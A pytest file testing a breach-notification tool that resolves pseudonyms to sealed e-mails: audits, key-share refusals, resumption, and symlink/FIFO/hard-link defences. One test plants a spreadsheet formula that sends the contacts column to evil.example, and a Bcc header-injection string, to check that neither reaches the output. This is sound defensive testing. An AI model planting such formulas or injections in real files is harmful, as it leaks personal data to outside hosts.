"""The breach run as a library call, over both store backends: output, refusals, audit, resume."""

from __future__ import annotations

import io
import os
import stat
from pathlib import Path

import pytest

from identity.audit import AuditLog
from identity.breach import opening, resolve as resolve_module
from identity.breach.errors import BreachError, Refused
from identity.breach.output import state_path, unresolved_path
from identity.breach.resolve import CountParams, count_pseudonyms, resolve_pseudonyms
from identity.store import StoreUnavailable
from identity.vault import new_pseudonym
from identity.keys import init_keys
from tests.audit_support import trusted
from tests.breach_support import (FailingStore, Population, dpo_shares, encrypted_dpo_key, other_x25519_key, params,
                                  populate, write_list)
from tests.breach_support import audit, people, rows  # noqa: F401  (fixtures)


@pytest.fixture
def listing(tmp_path: Path, people: Population) -> Path:
    unknown = new_pseudonym()
    lines = people.order[:6] + ["", "not a pseudonym", people.order[0], unknown.upper()] + people.order[6:]
    return write_list(tmp_path / "affected.txt", lines)


def actions(audit: AuditLog) -> list[tuple[str, str]]:
    return [(r["action"], r["outcome"]) for r in audit.records()]


def test_resolves_every_listed_person_once_in_input_order(store, audit, people, listing, tmp_path, keys_dir):
    summary = resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing))
    out = rows(tmp_path / "contacts.csv")
    assert out[0] == ["pseudonym", "email"]
    expected = [[p, people.pseudonyms[p]] for p in people.order if p != people.erased]
    assert out[1:] == expected
    assert summary.line() == "resolved=11 unknown=1 erased=1 malformed=1"
    assert summary.counts["duplicate"] == 1 and summary.counts["restricted"] == 1
    problems = {(line, problem) for line, _, problem in rows(unresolved_path(tmp_path / "contacts.csv"))[1:]}
    assert problems == {("4", "erased"), ("8", "malformed"), ("9", "duplicate"), ("10", "unknown")}


def test_output_files_are_private(store, audit, listing, tmp_path, keys_dir):
    resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing))
    for path in (tmp_path / "contacts.csv", unresolved_path(tmp_path / "contacts.csv"),
                 state_path(tmp_path / "contacts.csv")):
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path


def test_audit_names_who_why_and_the_list_but_no_address(store, audit, people, listing, tmp_path, keys_dir):
    resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing))
    started, completed = list(audit.records())
    assert (started["action"], started["outcome"], completed["outcome"]) == ("breach.resolve", "started", "completed")
    assert started["actor"] == "dpo.jansen" and started["incident"] == "INC-2026-01"
    assert started["reason"] == "tracking data leaked from the analytics bucket"
    import hashlib
    assert started["details"]["pseudonyms_sha256"] == hashlib.sha256(listing.read_bytes()).hexdigest()
    assert completed["counts"]["resolved"] == 11 and completed["counts"]["erased"] == 1
    assert "@" not in repr(list(audit.records()))
    assert audit.verify_chain(keys=trusted()).ok


def test_the_audit_record_is_written_before_any_email_is_opened(store, audit, listing, tmp_path, keys_dir,
                                                                  monkeypatch):
    seen: list[list[tuple[str, str]]] = []
    real = opening.open_all

    def spying(values, public, private):
        seen.append(actions(audit))
        return real(values, public, private)

    monkeypatch.setattr(opening, "open_all", spying)
    resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing))
    assert seen and all(("breach.resolve", "started") in before for before in seen)


def test_worker_processes_give_the_same_output(store, audit, people, listing, tmp_path, keys_dir):
    resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing, out=tmp_path / "a.csv", workers=0))
    resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing, out=tmp_path / "b.csv", workers=2,
                                            chunk_size=3))
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


def test_stdout_mode_writes_the_csv_to_the_given_stream(store, audit, people, listing, tmp_path, keys_dir):
    stdout, stderr = io.BytesIO(), io.StringIO()
    summary = resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing, out=None),
                                 stdout=stdout, stderr=stderr)
    lines = stdout.getvalue().decode().splitlines()
    assert lines[0] == "pseudonym,email" and len(lines) == 12 and summary.counts["resolved"] == 11
    assert "10," in stderr.getvalue() and "unknown" in stderr.getvalue()
    assert not any(p.name.endswith(".state") for p in tmp_path.iterdir())


# -- refusals ---------------------------------------------------------------------------------


@pytest.mark.parametrize("missing", ["incident", "operator", "reason"])
def test_refuses_without_incident_operator_or_reason(store, audit, listing, tmp_path, keys_dir, missing):
    with pytest.raises(Refused, match=f"--{missing} is required"):
        resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing, **{missing: "  "}))
    assert not (tmp_path / "contacts.csv").exists()
    (record,) = audit.records()
    assert (record["action"], record["outcome"]) == ("breach.resolve", "refused")


def refused_without_opening(store, audit, p, monkeypatch, match: str) -> dict:
    monkeypatch.setattr(opening, "open_all", lambda *a: pytest.fail("an e-mail was opened"))
    with pytest.raises(Refused, match=match):
        resolve_pseudonyms(store, audit, p)
    assert not p.out.exists() and not state_path(p.out).exists()
    records = list(audit.records())
    assert [(r["action"], r["outcome"]) for r in records] == [("breach.resolve", "refused")]
    return records[0]


def test_two_shares_open_and_the_audit_names_their_holders(store, audit, people, listing, tmp_path, keys_dir):
    shares = dpo_shares(keys_dir)
    summary = resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing, dpo_key=(shares[2], shares[0])))
    assert summary.counts["resolved"] == 11
    started = next(r for r in audit.records() if r["outcome"] == "started")
    assert started["details"]["dpo_key"]["form"] == "shares"
    assert started["details"]["dpo_key"]["shares"] == [{"index": 3, "holder": "holder-3"},
                                                       {"index": 1, "holder": "holder-1"}]


def test_refuses_one_share_alone(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    refused_without_opening(store, audit, params(tmp_path, keys_dir, listing, dpo_key=(dpo_shares(keys_dir)[1],)),
                            monkeypatch, "2 different shares .* 1 given: one holder alone opens nothing")


def test_refuses_the_same_share_given_twice(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    share = dpo_shares(keys_dir)[0]
    refused_without_opening(store, audit, params(tmp_path, keys_dir, listing, dpo_key=(share, share)), monkeypatch,
                            "1 given \\(the same share was given more than once; it counts once\\)")


def test_refuses_shares_of_another_key_set(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    other = init_keys(tmp_path / "other-keys", passphrase=None, dpo_passphrase=None, development=True, now=0)
    mixed = (dpo_shares(keys_dir)[0], other.files["dpo_share_2"])
    refused_without_opening(store, audit, params(tmp_path, keys_dir, listing, dpo_key=mixed), monkeypatch,
                            "is a share of another DPO key")


def test_refuses_a_share_mixed_with_a_whole_key(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    whole = encrypted_dpo_key(keys_dir, tmp_path / "dpo.pem", "correct horse")
    refused_without_opening(store, audit, params(tmp_path, keys_dir, listing,
                                                 dpo_key=(dpo_shares(keys_dir)[0], whole)),
                            monkeypatch, "not a DPO share file")


@pytest.fixture
def holders_keys(tmp_path: Path) -> Path:
    """A key set whose shares are locked by a real passphrase (IDENTITY_DPO_KEY_PASSPHRASE in development)."""
    root = tmp_path / "holders-keys"
    init_keys(root, passphrase=None, dpo_passphrase="the holders' passphrase", development=True, now=0)
    return root


def test_refuses_a_share_under_the_wrong_passphrase(store, audit, tmp_path, holders_keys, monkeypatch):
    listing = write_list(tmp_path / "affected.txt", populate(store, holders_keys).order)
    record = refused_without_opening(store, audit, params(tmp_path, holders_keys, listing,
                                                          passphrase="hunter2-not-it"), monkeypatch,
                                     "cannot unlock .*dpo_share_1.json \\(share 1 of 3, holder holder-1\\): "
                                     "wrong passphrase")
    assert "hunter2" not in repr(record)
    asked: list[str] = []
    refused = params(tmp_path, holders_keys, listing, passphrase_for=lambda share: asked.append(share.holder))
    with pytest.raises(Refused, match="no passphrase for .*holder-1.*run on a terminal"):
        resolve_pseudonyms(store, audit, refused)
    assert asked == ["holder-1"]


def test_each_holder_gives_their_own_passphrase(store, audit, tmp_path, holders_keys):
    people = populate(store, holders_keys)
    listing = write_list(tmp_path / "affected.txt", people.order)
    asked: list[str] = []

    def holder_at_the_prompt(share) -> str:
        asked.append(share.holder)
        return "the holders' passphrase"

    summary = resolve_pseudonyms(store, audit, params(tmp_path, holders_keys, listing,
                                                      dpo_key=tuple(dpo_shares(holders_keys)[1:]),
                                                      passphrase_for=holder_at_the_prompt))
    assert summary.counts["resolved"] == 11 and asked == ["holder-2", "holder-3"]


def test_refuses_a_wrong_passphrase(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    key = encrypted_dpo_key(keys_dir, tmp_path / "dpo.pem", "correct horse")
    record = refused_without_opening(store, audit, params(tmp_path, keys_dir, listing, dpo_key=key,
                                                          passphrase="hunter2-not-it"), monkeypatch, "wrong passphrase")
    assert "hunter2" not in repr(record)


def test_accepts_the_right_passphrase(store, audit, listing, tmp_path, keys_dir):
    key = encrypted_dpo_key(keys_dir, tmp_path / "dpo.pem", "correct horse")
    summary = resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing, dpo_key=key,
                                                      passphrase="correct horse"))
    assert summary.counts["resolved"] == 11


def test_refuses_another_x25519_key(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    key = other_x25519_key(tmp_path / "other.pem")
    refused_without_opening(store, audit, params(tmp_path, keys_dir, listing, dpo_key=key), monkeypatch,
                            "wrong DPO key")


def test_refuses_a_key_of_another_kind(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    signing = next((keys_dir / "signing").glob("*.pem"))
    refused_without_opening(store, audit, params(tmp_path, keys_dir, listing, dpo_key=signing), monkeypatch,
                            "not an X25519 private key")


def test_refuses_a_missing_key_file(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    refused_without_opening(store, audit, params(tmp_path, keys_dir, listing, dpo_key=tmp_path / "none.pem"),
                            monkeypatch, "cannot read")


def test_refuses_to_overwrite_an_existing_output(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    (tmp_path / "contacts.csv").write_text("precious\n")
    monkeypatch.setattr(opening, "open_all", lambda *a: pytest.fail("an e-mail was opened"))
    with pytest.raises(Refused, match="already exists"):
        resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing))
    assert (tmp_path / "contacts.csv").read_text() == "precious\n"


def test_refuses_to_resume_with_another_list(store, audit, people, listing, tmp_path, keys_dir):
    resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing))
    other = write_list(tmp_path / "other.txt", people.order[:2])
    with pytest.raises(Refused, match="another pseudonyms_sha256"):
        resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, other))


# -- interruption and resumption --------------------------------------------------------------


@pytest.mark.parametrize("error", [StoreUnavailable("connection lost"), KeyboardInterrupt(), RuntimeError("a bug")])
def test_an_interrupted_run_resumes_without_duplicates(store, audit, people, tmp_path, keys_dir, monkeypatch, error):
    monkeypatch.setattr(resolve_module, "CHECKPOINT_SECONDS", 0.0)  # checkpoint after every chunk
    many = write_list(tmp_path / "affected.txt", people.order * 1 + [new_pseudonym() for _ in range(9)])
    clean = params(tmp_path, keys_dir, many, out=tmp_path / "clean.csv")
    assert clean.out is not None
    resolve_pseudonyms(store, audit, clean)

    p = params(tmp_path, keys_dir, many)
    assert p.out is not None
    with pytest.raises(BreachError if isinstance(error, StoreUnavailable) else type(error)):
        resolve_pseudonyms(FailingStore(store, 3, error), audit, p)
    partial = rows(p.out)
    assert 1 < len(partial) < 12
    summary = resolve_pseudonyms(store, audit, p)
    assert p.out.read_bytes() == clean.out.read_bytes()
    assert unresolved_path(p.out).read_bytes() == unresolved_path(clean.out).read_bytes()
    assert summary.resumed and summary.line() == "resolved=11 unknown=9 erased=1 malformed=0"
    outcomes = [o for a, o in actions(audit) if a == "breach.resolve"]
    assert outcomes[2:] == ["started", "interrupted" if isinstance(error, KeyboardInterrupt) else "failed",
                            "started", "completed"]


def test_output_written_after_the_last_checkpoint_is_cut_back(store, audit, people, listing, tmp_path, keys_dir):
    clean_params = params(tmp_path, keys_dir, listing, out=tmp_path / "clean.csv")
    assert clean_params.out is not None
    resolve_pseudonyms(store, audit, clean_params)
    clean = clean_params.out.read_bytes()
    p = params(tmp_path, keys_dir, listing)
    assert p.out is not None
    with pytest.raises(BreachError):
        resolve_pseudonyms(FailingStore(store, 3, StoreUnavailable("connection lost")), audit, p)
    from identity.breach.state import Progress, RunState
    state = RunState.load(state_path(p.out))  # as if the run crashed before committing its last rows
    progress = state.progress
    state.checkpoint(Progress(4, len(b"pseudonym,email\n") + sum(len(f"{q},{people.pseudonyms[q]}\n")
                                                                   for q in people.order[:3]),
                              len(b"line,pseudonym,problem\n"), {"resolved": 3}, False))
    state.close()
    assert not progress.complete
    with open(p.out, "ab") as handle:
        handle.write(b"half-written,row")
    resolve_pseudonyms(store, audit, p)
    assert p.out.read_bytes() == clean


def test_resume_refuses_an_output_others_can_read(store, audit, listing, tmp_path, keys_dir):
    p = params(tmp_path, keys_dir, listing)
    assert p.out is not None
    resolve_pseudonyms(store, audit, p)
    os.chmod(p.out, 0o644)
    with pytest.raises(Refused, match="readable by others"):
        resolve_pseudonyms(store, audit, p)


# -- streaming ------------------------------------------------------------------------------


def test_store_reads_are_batched_and_work_in_flight_is_bounded(store, audit, people, tmp_path, keys_dir):
    batches: list[int] = []

    class Counting(FailingStore):
        def find_fields(self, coll, where, fields, **kwargs):
            if coll.name == "identities":
                batches.append(len(where["pseudonym"].values))
            return self._inner.find_fields(coll, where, fields, **kwargs)

    listing = write_list(tmp_path / "affected.txt", people.order + [new_pseudonym() for _ in range(30)])
    resolve_pseudonyms(Counting(store, 0, None), audit, params(tmp_path, keys_dir, listing, chunk_size=5))
    assert len(batches) == 9 and max(batches) == 5


def test_the_opening_pool_keeps_at_most_its_window_in_flight(keys_dir):
    from identity.breach.dpo_key import raw_private
    from tests.breach_support import dpo_private_key

    class Slow:  # a chunk that is never ready until someone waits for it
        def __init__(self, values):
            self.values = values

        def ready(self):
            return False

        def get(self):
            return self.values

    class Pool(opening.OpeningPool):
        def _start(self, values):
            return Slow(values)

    finished = []
    with Pool(raw_private(dpo_private_key(keys_dir)), workers=0, window=3) as pool:
        for i in range(10):
            finished += [tag for tag, _ in pool.submit(i, [str(i)])]
            assert len(pool._pending) <= 3
        finished += [tag for tag, _ in pool.finish()]
    assert finished == list(range(10))


def test_progress_bar_only_on_a_terminal(store, audit, listing, tmp_path, keys_dir):
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    quiet, tty = io.StringIO(), Terminal()
    resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing, out=tmp_path / "a.csv", progress=None),
                       stderr=quiet)
    resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing, out=tmp_path / "b.csv", progress=None),
                       stderr=tty)
    assert quiet.getvalue() == ""
    assert "lines" in tty.getvalue() and "100.0%" in tty.getvalue() and "@" not in tty.getvalue()


# -- counts for the authority -----------------------------------------------------------------


def test_counts_need_no_key_and_open_nothing(store, audit, listing, monkeypatch):
    monkeypatch.setattr(opening, "open_all", lambda *a: pytest.fail("an e-mail was opened"))
    summary = count_pseudonyms(store, audit, CountParams("INC-2026-01", "dpo.jansen", "art. 33 notice", listing))
    assert summary.line() == "resolved=11 unknown=1 erased=1 malformed=1"
    (record,) = audit.records()
    assert record["action"] == "breach.count" and record["counts"]["resolved"] == 11


def test_a_sealed_value_the_key_cannot_open_is_reported_unopenable(store, audit, people, listing, tmp_path, keys_dir):
    from identity.sealing import Sealer
    from identity.vault import IDENTITIES
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
    victim = people.order[0]
    store.update(IDENTITIES, {"pseudonym": victim},
                 {"sealed_email": Sealer(X25519PrivateKey.generate().public_key()).seal(b"x@example.org")})
    summary = resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing, workers=2, chunk_size=3))
    assert summary.counts["unopenable"] == 1 and summary.counts["resolved"] == 10
    assert summary.line() == "resolved=10 unknown=1 erased=1 malformed=1"
    assert victim not in {p for p, _ in rows(tmp_path / "contacts.csv")[1:]}
    assert ("1", victim, "unopenable") in {tuple(r) for r in rows(unresolved_path(tmp_path / "contacts.csv"))}


@pytest.mark.parametrize("planted", [
    '=WEBSERVICE("https://evil.example/x?d="&ENCODEURL(TEXTJOIN(";",TRUE,B2:B100000)))',
    "+1@example.org", "-x@example.org", "Someone@Example.org", "not an address", "a@b.org\r\nBcc: c@d.org"])
def test_a_sealed_value_that_is_no_vault_address_is_never_written(store, audit, people, listing, tmp_path, keys_dir,
                                                                    planted):
    """Anyone who can write the store holds the DPO's public key too: a value the vault never sealed (a spreadsheet
    formula that would send the whole contacts file elsewhere, a header injection) is reported unopenable."""
    from identity.keys.files import load_dpo_public_key
    from identity.sealing import Sealer
    from identity.vault import IDENTITIES
    victim = people.order[0]
    store.update(IDENTITIES, {"pseudonym": victim},
                 {"sealed_email": Sealer(load_dpo_public_key(keys_dir / "dpo_public.pem")).seal(planted.encode())})
    summary = resolve_pseudonyms(store, audit, params(tmp_path, keys_dir, listing))
    assert summary.counts["unopenable"] == 1 and summary.counts["resolved"] == 10
    written = (tmp_path / "contacts.csv").read_text()
    assert victim not in written and planted not in written
    assert ("1", victim, "unopenable") in {tuple(r) for r in rows(unresolved_path(tmp_path / "contacts.csv"))}


def test_a_completed_run_is_not_reopened_by_editing_its_state(store, audit, listing, tmp_path, keys_dir, monkeypatch):
    p = params(tmp_path, keys_dir, listing)
    assert p.out is not None
    resolve_pseudonyms(store, audit, p)
    from identity.breach.state import Progress, RunState
    state = RunState.load(state_path(p.out))
    state.checkpoint(Progress(0, len(b"pseudonym,email\n"), len(b"line,pseudonym,problem\n"), {}, False))
    state.close()
    monkeypatch.setattr(opening, "open_all", lambda *a: pytest.fail("an e-mail was opened"))
    with pytest.raises(Refused, match="completed .* the state file was altered"):
        resolve_pseudonyms(store, audit, p)
    assert actions(audit)[-1] == ("breach.resolve", "refused")


# -- reopening: never through a link (O_NOFOLLOW), only private regular files -----------------


def _plant_link(path: Path, target: Path) -> bytes:
    """Move ``path`` onto ``target`` (mode 0600, ours) and leave a symbolic link to it in its place."""
    os.replace(path, target)
    os.symlink(target, path)
    return target.read_bytes()


@pytest.mark.parametrize("which", ["out", "unresolved", "state"])
def test_resume_refuses_a_symbolic_link_planted_at_any_of_its_files(store, audit, listing, tmp_path, keys_dir,
                                                                   monkeypatch, which):
    p = params(tmp_path, keys_dir, listing)
    assert p.out is not None
    resolve_pseudonyms(store, audit, p)
    path = {"out": p.out, "unresolved": unresolved_path(p.out), "state": state_path(p.out)}[which]
    target = tmp_path / "elsewhere" / "victim"
    target.parent.mkdir()
    before = _plant_link(path, target)
    monkeypatch.setattr(opening, "open_all", lambda *a: pytest.fail("an e-mail was opened"))
    with pytest.raises(Refused, match="symbolic link"):
        resolve_pseudonyms(store, audit, p)
    assert target.read_bytes() == before  # neither cut back nor appended to
    assert actions(audit)[-1] == ("breach.resolve", "refused")


def test_resume_refuses_a_fifo_without_hanging(store, audit, listing, tmp_path, keys_dir):
    p = params(tmp_path, keys_dir, listing)
    assert p.out is not None
    resolve_pseudonyms(store, audit, p)
    os.unlink(p.out)
    os.mkfifo(p.out, 0o600)
    with pytest.raises(Refused, match="not a regular file"):
        resolve_pseudonyms(store, audit, p)


def test_resume_refuses_an_output_with_a_second_name(store, audit, listing, tmp_path, keys_dir):
    p = params(tmp_path, keys_dir, listing)
    assert p.out is not None
    resolve_pseudonyms(store, audit, p)
    os.link(unresolved_path(p.out), tmp_path / "copy-elsewhere.csv")
    with pytest.raises(Refused, match="hard link"):
        resolve_pseudonyms(store, audit, p)


def test_resume_refuses_a_link_planted_beside_the_state_database(store, audit, listing, tmp_path, keys_dir):
    p = params(tmp_path, keys_dir, listing)
    assert p.out is not None
    resolve_pseudonyms(store, audit, p)
    wal = Path(str(state_path(p.out)) + "-wal")
    wal.unlink(missing_ok=True)
    os.symlink(tmp_path / "captured-wal", wal)
    with pytest.raises(Refused, match="symbolic link"):
        resolve_pseudonyms(store, audit, p)
    assert not (tmp_path / "captured-wal").exists()


def test_a_new_run_refuses_a_dangling_link_at_the_output(store, audit, listing, tmp_path, keys_dir):
    p = params(tmp_path, keys_dir, listing)
    assert p.out is not None
    os.symlink(tmp_path / "not-yet", p.out)
    with pytest.raises(Refused, match="already exists"):
        resolve_pseudonyms(store, audit, p)
    assert not (tmp_path / "not-yet").exists()
